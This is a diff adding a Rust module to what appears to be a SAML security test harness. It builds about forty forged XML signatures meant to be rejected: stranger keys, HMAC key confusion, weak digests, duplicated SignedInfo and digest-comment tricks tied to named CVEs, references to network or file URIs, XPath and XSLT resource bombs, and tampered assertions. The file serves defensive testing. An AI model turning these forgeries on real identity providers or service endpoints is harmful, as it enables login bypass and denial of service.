@@ -1,0 +1,341 @@
+//! Signatures that nobody may accept: none, somebody else's, broken algorithms, references and transforms that lead astray.
+
+use anyhow::Result;
+
+use super::{Facts, step, step_at};
+use crate::saml::names::{ENVELOPED, EXCLUSIVE};
+use crate::saml::plan::{Plan, Signer};
+use crate::saml::signature::{Credential, Digest, Method, reference};
+use crate::xml::{Element, Node};
+
+/// What is wrong with the signature.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Forgery {
+    /// There is none.
+    Unsigned,
+    /// Another key signed, and shows its certificate.
+    SelfSigned,
+    /// Another key signed, and shows the provider's certificate.
+    StrangerUnderOurCertificate,
+    /// Another key signed, and shows itself as `KeyValue`.
+    StrangerKeyValue,
+    /// Another key signed, and says where to fetch it: `RetrievalMethod`.
+    StrangerRetrievalMethod,
+    /// Another key signed, and says nothing.
+    StrangerBare,
+    /// The right key, and no `KeyInfo`: sound.
+    NoKeyInfo,
+    /// The right key under somebody else's certificate: sound, for nobody reads it.
+    ForeignKeyInfo,
+    /// HMAC under the public key in PEM.
+    HmacPublicKey,
+    /// HMAC under the certificate in DER.
+    HmacCertificate,
+    /// HMAC under nothing.
+    HmacEmpty,
+    /// RSA with SHA-1, over a SHA-1 digest.
+    Sha1,
+    /// RSA with SHA-256, over a SHA-1 digest.
+    Sha1Digest,
+    /// RSA with MD5, over an MD5 digest.
+    Md5,
+    /// RSA with SHA-512: sound.
+    Sha512,
+    /// A method that nobody knows.
+    UnknownMethod,
+    /// A truncated HMAC of no bits (CVE-2009-0217).
+    HmacOutputLength,
+    /// An empty value.
+    EmptyValue,
+    /// A value of zeros.
+    ZeroValue,
+    /// One bit of the value is turned.
+    BitTurned,
+    /// No `SignedInfo`.
+    NoSignedInfo,
+    /// A second, forged `SignedInfo` (CVE-2025-29775).
+    TwoSignedInfos,
+    /// A comment in `DigestValue` (CVE-2025-29774).
+    DigestComment,
+    /// `DigestValue` is that of nothing.
+    DigestOfNothing,
+    /// No reference: nothing is signed, validly.
+    NoReference,
+    /// A second reference, to itself (CVE-2026-33487).
+    TwoReferences,
+    /// The reference is empty: the whole document.
+    ReferenceEmpty,
+    /// The reference leads to the network, under another key.
+    ReferenceHttp,
+    /// The reference leads to a file, under another key.
+    ReferenceFile,
+    /// The reference is to another element.
+    ReferenceElsewhere,
+    /// The reference is an XPointer.
+    ReferenceXPointer,
+    /// The assertion has no ID, and the reference is to nothing.
+    NoAssertionId,
+    /// A true XPath transform: some libraries verify it.
+    XPathTransform,
+    /// An XPath transform that costs minutes, under another key.
+    XPathBomb,
+    /// An XSLT transform that reads the network, under another key.
+    XsltTransform,
+    /// An XSLT transform that costs for ever, under another key.
+    XsltBomb,
+    /// Four transforms.
+    ManyTransforms,
+    /// No enveloped-signature transform.
+    NotEnveloped,
+    /// Canonical with comments.
+    WithComments,
+    /// Inclusively canonical.
+    Inclusive,
+    /// A `ds:Object` beside.
+    Object,
+    /// What was signed said something else: the subject.
+    TamperedSubject,
+    /// What was signed said something else: an attribute.
+    TamperedAttribute,
+    /// What was signed said something else: the audience.
+    TamperedAudience,
+    /// What was signed said something else: its time.
+    TamperedTime,
+}
+
+/// `2 ^ depth` calls.
+const XSLT: &str = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\
+<xsl:template match=\"/\"><xsl:copy-of select=\"document('CANARY')\"/><xsl:call-template name=\"t\"><xsl:with-param name=\"n\" select=\"DEPTH\"/></xsl:call-template></xsl:template>\
+<xsl:template name=\"t\"><xsl:param name=\"n\"/><xsl:if test=\"$n &gt; 0\"><xsl:call-template name=\"t\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template>\
+<xsl:call-template name=\"t\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet>";
+
+impl Forgery {
+    pub(super) fn apply(self, plan: &mut Plan, facts: &Facts<'_>) -> Result<()> {
+        let stranger = || Signer::Stranger(Box::new(facts.stranger.clone()));
+        match self {
+            Self::Unsigned => plan.signed = None,
+            Self::SelfSigned => plan.signer = stranger(),
+            Self::StrangerUnderOurCertificate => {
+                plan.signer = stranger();
+                plan.key_info = Some(Some(facts.honest.key_info()?));
+            }
+            Self::StrangerKeyValue => {
+                plan.signer = stranger();
+                plan.key_info = Some(Some(key_value(facts.stranger)?));
+            }
+            Self::StrangerRetrievalMethod => {
+                plan.signer = stranger();
+                let retrieval = Element::new("ds:RetrievalMethod")
+                    .with("URI", format!("{}/certificate", facts.canary))
+                    .with(
+                        "Type",
+                        "http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
+                    );
+                plan.key_info = Some(Some(Element::new("ds:KeyInfo").child(retrieval)));
+            }
+            Self::StrangerBare => {
+                plan.signer = stranger();
+                plan.key_info = Some(None);
+            }
+            Self::NoKeyInfo => plan.key_info = Some(None),
+            Self::ForeignKeyInfo => plan.key_info = Some(Some(facts.stranger.key_info()?)),
+            Self::HmacPublicKey => plan.signer = Signer::Hmac(facts.honest.key().public_pem()?),
+            Self::HmacCertificate => {
+                plan.signer = Signer::Hmac(facts.honest.certificate().to_der()?);
+            }
+            Self::HmacEmpty => plan.signer = Signer::Hmac(vec![0]),
+            Self::HmacOutputLength => {
+                plan.signer = Signer::Hmac(vec![0]);
+                plan.signing.push(step_at(&["SignatureMethod"], |method| {
+                    method.append(Element::new("ds:HMACOutputLength").text("0"));
+                }));
+                plan.sealed.push(value(|_| String::new()));
+            }
+            Self::Sha1 => (plan.method, plan.digest) = (Some(Method::RsaSha1), Digest::Sha1),
+            Self::Sha1Digest => plan.digest = Digest::Sha1,
+            Self::Md5 => (plan.method, plan.digest) = (Some(Method::RsaMd5), Digest::Md5),
+            Self::Sha512 => (plan.method, plan.digest) = (Some(Method::RsaSha512), Digest::Sha512),
+            Self::UnknownMethod => plan.signing.push(step_at(&["SignatureMethod"], |method| {
+                method.set("Algorithm", "urn:example:trust-me");
+            })),
+            Self::EmptyValue => plan.sealed.push(value(|_| String::new())),
+            Self::ZeroValue => plan.sealed.push(value(|_| "A".repeat(344))),
+            Self::BitTurned => plan.sealed.push(value(|text| {
+                let first = if text.starts_with('A') { "B" } else { "A" };
+                format!("{first}{}", text.get(1..).unwrap_or_default())
+            })),
+            Self::NoSignedInfo => plan.sealed.push(step(|signature| {
+                signature.take("SignedInfo");
+            })),
+            Self::TwoSignedInfos => plan.sealed.push(step(|signature| {
+                if let Some(mut forged) = signature.find("SignedInfo").cloned() {
+                    if let Some(value) = forged.at_mut(&["Reference", "DigestValue"]) {
+                        value.set_text("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
+                    }
+                    signature.prepend(forged);
+                }
+            })),
+            Self::DigestComment => {
+                plan.sealed.push(step_at(
+                    &["SignedInfo", "Reference", "DigestValue"],
+                    |value| {
+                        let comment = Node::Comment(
+                            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".to_owned(),
+                        );
+                        value.children.insert(0, comment);
+                    },
+                ));
+            }
+            Self::DigestOfNothing => {
+                let nothing = Digest::Sha256.of("")?;
+                plan.signing
+                    .push(step_at(&["Reference", "DigestValue"], move |value| {
+                        value.set_text(&nothing);
+                    }));
+            }
+            Self::NoReference => plan.signing.push(step(|signed_info| {
+                signed_info.take("Reference");
+            })),
+            Self::TwoReferences => plan.signing.push(step(|signed_info| {
+                let first = signed_info.find("Reference").cloned();
+                signed_info.children.extend(first.map(Node::Element));
+            })),
+            Self::ReferenceEmpty => refer(plan, String::new()),
+            Self::ReferenceHttp => {
+                plan.signer = stranger();
+                refer(plan, format!("{}/reference", facts.canary));
+            }
+            Self::ReferenceFile => {
+                plan.signer = stranger();
+                refer(plan, format!("file://{}", facts.trap));
+            }
+            Self::ReferenceElsewhere => refer(plan, "#_elsewhere".to_owned()),
+            Self::ReferenceXPointer => refer(plan, "#xpointer(/)".to_owned()),
+            Self::NoAssertionId => {
+                plan.draft.assertion(|assertion| assertion.id = None);
+                refer(plan, String::new());
+            }
+            Self::XPathTransform => transform(plan, &xpath("count(//. | //@*) > 0")),
+            Self::XPathBomb => {
+                plan.signer = stranger();
+                transform(
+                    plan,
+                    &xpath("count(//*[count(//*[count(//*) > 1]) > 1]) > 0"),
+                );
+                plan.finished.push(step(|response| {
+                    let padding = (0..2_000).map(|_| Element::new("samlp:Padding"));
+                    response
+                        .insert_after("Issuer", Element::new("samlp:Extensions").children(padding));
+                }));
+            }
+            Self::XsltTransform => {
+                plan.signer = stranger();
+                transform(plan, &xslt(facts.canary, 1)?);
+            }
+            Self::XsltBomb => {
+                plan.signer = stranger();
+                transform(plan, &xslt(facts.canary, 40)?);
+            }
+            Self::ManyTransforms => {
+                let again = Element::new("ds:Transform").with("Algorithm", EXCLUSIVE);
+                transform(plan, &again);
+                transform(plan, &again);
+            }
+            Self::NotEnveloped => plan
+                .signing
+                .push(step_at(&["Reference", "Transforms"], |all| {
+                    all.children.remove(0);
+                })),
+            Self::WithComments => {
+                canonicalize(plan, "http://www.w3.org/2001/10/xml-exc-c14n#WithComments")
+            }
+            Self::Inclusive => {
+                canonicalize(plan, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")
+            }
+            Self::Object => plan.sealed.push(step(|signature| {
+                signature.append(Element::new("ds:Object").text("a decoy"));
+            })),
+            Self::TamperedSubject => plan.asserted.push(step(super::falsify)),
+            Self::TamperedAttribute => {
+                plan.asserted
+                    .push(step_at(&["AttributeStatement", "Attribute"], |attribute| {
+                        attribute.set("Name", "groups");
+                    }));
+            }
+            Self::TamperedAudience => {
+                let path = &["Conditions", "AudienceRestriction"];
+                plan.asserted.push(step_at(path, |restriction| {
+                    restriction.append(Element::new("saml:Audience").text("https://evil.example"));
+                }));
+            }
+            Self::TamperedTime => plan.asserted.push(step_at(&["Conditions"], |conditions| {
+                conditions.set("NotOnOrAfter", "2099-01-01T00:00:00Z");
+            })),
+        }
+        Ok(())
+    }
+}
+
+fn value(change: impl Fn(&str) -> String + 'static) -> crate::saml::plan::Step {
+    step_at(&["SignatureValue"], move |value| {
+        let text = change(&value.own_text());
+        value.set_text(text);
+    })
+}
+
+/// Signs a reference to `uri`, with the digest of what should have been referred to.
+fn refer(plan: &mut Plan, uri: String) {
+    plan.signing.push(step(move |signed_info| {
+        let honest = signed_info.take("Reference").unwrap_or_default();
+        let digest = honest.find("DigestValue").map(Element::own_text);
+        let digest = digest.unwrap_or_default();
+        signed_info.append(reference(&uri, Digest::Sha256.uri(), &digest));
+    }));
+}
+
+/// Signs with one more transform, the last.
+fn transform(plan: &mut Plan, transform: &Element) {
+    let transform = transform.clone();
+    plan.signing
+        .push(step_at(&["Reference", "Transforms"], move |all| {
+            all.append(transform.clone());
+        }));
+}
+
+fn canonicalize(plan: &mut Plan, method: &'static str) {
+    plan.signing
+        .push(step_at(&["Reference", "Transforms"], move |all| {
+            let kept = Element::new("ds:Transform").with("Algorithm", ENVELOPED);
+            *all = Element::new("ds:Transforms")
+                .child(kept)
+                .child(Element::new("ds:Transform").with("Algorithm", method));
+        }));
+}
+
+fn xpath(expression: &str) -> Element {
+    Element::new("ds:Transform")
+        .with("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
+        .child(Element::new("ds:XPath").text(expression))
+}
+
+fn xslt(canary: &str, depth: usize) -> Result<Element> {
+    let sheet = XSLT
+        .replace("CANARY", canary)
+        .replace("DEPTH", &depth.to_string());
+    Ok(Element::new("ds:Transform")
+        .with("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
+        .child(Element::parse(&sheet)?))
+}
+
+fn key_value(credential: &Credential) -> Result<Element> {
+    use base64::Engine;
+    let key = credential.key().private_key().rsa()?;
+    let number = |name, number: &openssl::bn::BigNumRef| {
+        let text = base64::engine::general_purpose::STANDARD.encode(number.to_vec());
+        Element::new(name).text(text)
+    };
+    let key = Element::new("ds:RSAKeyValue")
+        .child(number("ds:Modulus", key.n()))
+        .child(number("ds:Exponent", key.e()));
+    Ok(Element::new("ds:KeyInfo").child(Element::new("ds:KeyValue").child(key)))
+}
